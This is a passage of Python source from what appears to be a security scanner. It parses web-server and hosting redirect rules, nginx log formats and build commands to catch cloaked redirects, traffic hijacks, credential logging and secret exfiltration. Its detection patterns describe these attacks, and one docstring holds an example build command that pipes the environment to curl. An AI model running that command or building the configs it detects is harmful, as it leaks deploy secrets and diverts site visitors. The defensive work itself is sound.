                out.append(_Redirect(target, bool(_CATCH_ALL.match(m.group(1))) and not picked, temporary,
                                     _cloaking(ref_pos, ua_neg), own))
            ref_pos, ua_neg, picked = [], [], False
            continue
        m = _REDIRECT_LINE.match(line)
        if m is not None:
            how, status, source, target = m.group(1), m.group(2) or "", m.group(3), m.group(4)
            if not re.match(r"(?i)(?:https?:)?//", target):
                continue
            temporary = how == "RedirectTemp" or status.lower() in ("temp", "302", "303", "307") or \
                (how in ("Redirect", "RedirectMatch") and not status)
            out.append(_Redirect(target, source in ("/", "^", "^/", "(.*)", "^(.*)$", "^/(.*)$", ".*", "/(.*)") and
                                 not picked, temporary, _cloaking(ref_pos, ua_neg), own))
    return out


_NGINX_RETURN = re.compile(r"(?i)\breturn\s+(30[12378])\s+[\"']?((?:https?:)?//[^\s;\"']+)|"
                           r"\brewrite\s+(\S+)\s+[\"']?((?:https?:)?//[^\s;\"']+)[\"']?(?:\s+(redirect|permanent))?")
_NGINX_IF = re.compile(r"(?i)\bif\s*\(\s*\$(http_referer|http_user_agent)\s*(!?~\*?)\s*+[\"']?([^)]*+)\)")
_NGINX_MAP = re.compile(r"(?i)\bmap\s+\$(http_referer|http_user_agent)\s+\$\w+\s*\{([^}]*+)\}")


def _nginx_redirects(text: str) -> list[_Redirect]:
    if "return" not in text and "rewrite" not in text:
        return []
    own = frozenset(h for m in re.finditer(r"(?m)^\s*server_name\s+([^;]+);", text) for h in m.group(1).split()
                    if "." in h and "~" not in h)
    conds = list(_NGINX_IF.finditer(_to_last(text, ")")))
    ref_pos = [m.group(3) for m in conds if m.group(1).lower() == "http_referer" and not m.group(2).startswith("!")]
    ua_neg = [m.group(3) for m in conds if m.group(1).lower() == "http_user_agent" and m.group(2).startswith("!")]
    for m in _NGINX_MAP.finditer(_to_last(text, "}")):
        if m.group(1).lower() == "http_referer":
            ref_pos.append(m.group(2))
    cloaked = _cloaking(ref_pos, ua_neg)
    out = []
    for m in _NGINX_RETURN.finditer(text):
        if m.group(2):
            out.append(_Redirect(m.group(2), False, m.group(1) in ("302", "303", "307"), cloaked, own))
        else:
            out.append(_Redirect(m.group(4), bool(_CATCH_ALL.match(m.group(3))), m.group(5) != "permanent", cloaked,
                                 own))
    return out


# one line each: `\s` would pair a line's only word with the next line's first
_NETLIFY_LINE = re.compile(r"(?m)^[^\S\n]*(\S+)[^\S\n]+(\S+)(?:[^\S\n]+(\d{3})(!?))?")


def _netlify_redirects(text: str) -> list[_Redirect]:
    out = []
    for m in _NETLIFY_LINE.finditer(text):
        source, target, status = m.group(1), m.group(2), m.group(3) or "301"
        if source.startswith("#") or not re.match(r"(?i)(?:https?:)?//", target):
            continue
        path = re.sub(r"(?i)^(?:https?:)?//[^/]+", "", source) or "/"
        out.append(_Redirect(target, path in ("/*", "/", "/:splat"), status in ("302", "303", "307"), None,
                             source=path, proxied=status == "200"))
    return out


def _toml_redirects(text: str) -> list[_Redirect]:
    if "redirects" not in text:
        return []
    import tomllib

    try:
        data = tomllib.loads(text)
    except (ValueError, RecursionError):
        data = None
    rules = data.get("redirects") if isinstance(data, dict) else None
    out = []
    if isinstance(rules, list):
        for r in rules[:256]:
            if isinstance(r, dict) and isinstance(r.get("to"), str) and isinstance(r.get("from"), str):
                temporary = str(r.get("status", 301)) in ("302", "303", "307")
                out.append(_Redirect(r["to"], r["from"] in ("/*", "/"), temporary, None, source=r["from"],
                                     proxied=str(r.get("status", 301)) == "200"))
    return out


def _vercel_redirects(text: str) -> list[_Redirect]:
    if "redirects" not in text and "rewrites" not in text:
        return []
    import json

    try:
        data = json.loads(text)
    except (ValueError, RecursionError):
        return []
    out = []
    if not isinstance(data, dict):
        return out
    for key in ("redirects", "rewrites"):
        rules = data.get(key)
        for r in rules[:256] if isinstance(rules, list) else []:
            if not isinstance(r, dict) or not isinstance(r.get("destination"), str):
                continue
            has = r.get("has") if isinstance(r.get("has"), list) else []
            missing = r.get("missing") if isinstance(r.get("missing"), list) else []
            ref = [str(h.get("value", "")) for h in has if isinstance(h, dict) and
                   str(h.get("key", "")).lower() in ("referer", "referrer")]
            ua_neg = [str(h.get("value", "")) for h in missing if isinstance(h, dict) and
                      str(h.get("key", "")).lower() == "user-agent"]
            temporary = key == "redirects" and (r.get("permanent") is False or
                                                r.get("statusCode") in (302, 303, 307))
            out.append(_Redirect(r["destination"], str(r.get("source")) in ("/(.*)", "/:path*", "/"), temporary,
                                 _cloaking(ref, ua_neg), source=str(r.get("source", "")), proxied=key == "rewrites"))
    return out


def _send_away(a, path: str, redirects: list[_Redirect], node) -> bool:
    """Block a redirect to another site that is cloaked (search visitors only, people only) or that sends every page
    elsewhere for a while (a site that moves says so with a permanent redirect)."""
    from .docsites_tables import signin_served

    for r in redirects:
        host = _host_of(r.target)
        if host is None or _own(host, r.own):
            continue
        # (session 27: the same judgement as a web server's proxy of a sign-in path, docsites_tables)
        found = signin_served(r.source, host, r.proxied, " ".join(x.target for x in redirects)) if r.source else None
        if found is not None and found[0] == "block":
            a.block("exfiltration", f"the rules written to {path} {found[1]}; keep sign-in on the site's own pages or "
                                    "its identity provider", node)
            return True
        if found is not None:
            # (an identity provider's host or a stranger's sign-in page: which one, a person knows)
            a.review("exfiltration", f"the rules written to {path} {found[1]}; a person should confirm it is the "
                                     "organisation's identity provider", node)
            return True
        if r.cloaked is not None:
            a.block("exfiltration", f"the rules written to {path} send {r.cloaked} to {host}, another site, while "
                                    "the site looks unchanged to its owner and to search engines (cloaking): keep "
                                    "redirects within the site", node)
            return True
        if r.everything and r.temporary:
            a.block("exfiltration", f"the rules written to {path} send every page's visitors to {host}, another "
                                    "site, with a temporary redirect: a hijack of the site's traffic, not a move (a "
                                    "site that moves redirects permanently, 301). Keep redirects within the site",
                    node)
            return True
    return False


# -- nginx: what it logs ------------------------------------------------------------------------------------------------
_LOG_FORMAT = re.compile(r"(?i)\blog_format\s+(\w+)\s+([^;]*+);")
_ACCESS_LOG = re.compile(r"(?i)\baccess_log\s+(\S+)(?:\s+(\w+))?")
_SECRET_VARS = re.compile(r"\$(?:request_body|http_authorization|http_cookie|cookie_\w+|arg_(?:pwd|pass\w*|token))\b")
# (a location's words, up to its `{` on its line: unbounded, every `location` rescans to the next `{`; and up to the
# next `location`, which finds the same first login word, so `location location …` is read once)
_LOGIN_PATHS = re.compile(r"(?i)location\s++[=~^*\s]*+[\"']?(?:(?!location)[^{\n]){0,300}?(?:login|signin|sign-in|auth|"
                          r"admin|account|user/password|checkout)")


def _login_logged(a, path: str, text: str, node) -> bool:
    """A log format holding request bodies, cookies or authorization headers (what people sign in with) written by the
    login page's location, or into a folder the web server publishes."""
    from .media_tables import public_folder

    if "log_format" not in text or _SECRET_VARS.search(text) is None:
        return False
    formats = {m.group(1) for m in _LOG_FORMAT.finditer(_to_last(text, ";")) if _SECRET_VARS.search(m.group(2))}
    first_login = _LOGIN_PATHS.search(text)
    for m in _ACCESS_LOG.finditer(text):
        if m.group(2) not in formats:
            continue
        where = m.group(1)
        login = first_login is not None and first_login.end() <= m.start()
        if login or public_folder(where) or _UPLOADS.search(where) or "wp-content" in where:
            what = "login requests' bodies and credentials" if login else "request bodies and credentials"
            a.block("exfiltration", f"the nginx rules written to {path} log {what} (format `{m.group(2)}`) to "
                                    f"{where}{', a folder the site publishes' if not login else ''}: the passwords "
                                    "people sign in with, kept in a file. Log requests without their bodies", node)
            return True
    return False


# -- a hosting platform's build command ---------------------------------------------------------------------------------
# one line each (`\s` across lines rescans every blank line to the end)
_COMMAND_LINE = re.compile(r"""(?m)^[^\S\n]*(?:command|buildCommand|installCommand)[^\S\n]*[=:][^\S\n]*(["'])(.*?)"""
                          r"""\1[^\S\n]*,?[^\S\n]*$""")


def _build_command(a, path: str, text: str, node) -> bool:
    """`command = "npm run build && env | curl -d @- …"` in a piece of netlify.toml that is not whole TOML (a
    replacement a script splices in, a `sed -i` edit): the build runs it with the site's environment, deploy secrets
    among it. Whole TOML is read by taskfiles' hosting reader."""
    if "ommand" not in text:
        return False
    import tomllib

    try:
        tomllib.loads(text)
        return False
    except (ValueError, RecursionError):
        pass
    from .bash.written import blocked

    for m in list(_COMMAND_LINE.finditer(text))[:8]:
        line = re.sub(r"\\(\d)", "true", m.group(2)).replace('\\"', '"')  # (`\1`: what the file held before)
        found = blocked(a, line, "bash") if line.strip() else None
        if found is not None:
            a.block(found.rule, f"the build command written to {path} would be blocked as a command "
                                f"({found.message}); the host's build runs it with the site's environment, deploy "
                                "secrets among it", node)
            return True
    return False


# -- Next.js middleware (a TypeScript snippet, read through the code rules' hook) ---------------------------------------
_JS_REFERER = re.compile(r"(?i)\breferr?er\b")
# (the first engine's name in a literal, atomic: the literal's end is the same for any later one, and retrying each
# name rescans to it)
_JS_ENGINES = re.compile(r"(?i)/(?>[^/\n]*?(?:google|bing|yahoo|duckduckgo|yandex|baidu))[^/\n]*+/[gimsuy]*|"
                         r"[\"'`](?>[^\"'`\n]*?(?:google|bing|yahoo|duckduckgo|yandex|baidu))[^\"'`\n]*+[\"'`]")
_JS_NOT_CRAWLER = re.compile(r"(?i)!\s*/(?>[^/\n]*?(?:bot|crawl|spider))[^/\n]*+/[gimsuy]*\.test\s*\(")
_JS_ABS_REDIRECT = re.compile(r"""(?i)\b(?:NextResponse|Response|res|reply|ctx|c)\.redirect\s*\(\s*(?:new\s+URL\s*\(\s*)?"""
                              r"""["'`]((?:https?:)?//[^"'`\s]+)""")


def cloaked_redirect(code: str) -> str | None:
    """What a middleware or request handler's `code` does when it sends visitors to another site only when they come
    from a search engine, or only when they are not crawlers (cloaking); None otherwise. (For js/cms.py's hook on
    `NextResponse.redirect`.)"""
    if "redirect" not in code:
        return None
    for m in _JS_ABS_REDIRECT.finditer(code):
        host = _host_of(m.group(1))
        if host is None or _own(host):
            continue
        if _JS_REFERER.search(code) and _JS_ENGINES.search(code):
            return f"sends only visitors who arrive from a search engine to {host}, another site (cloaking)"
        if _JS_NOT_CRAWLER.search(code):
            return f"sends every visitor but search engines' crawlers to {host}, another site (cloaking)"
    return None
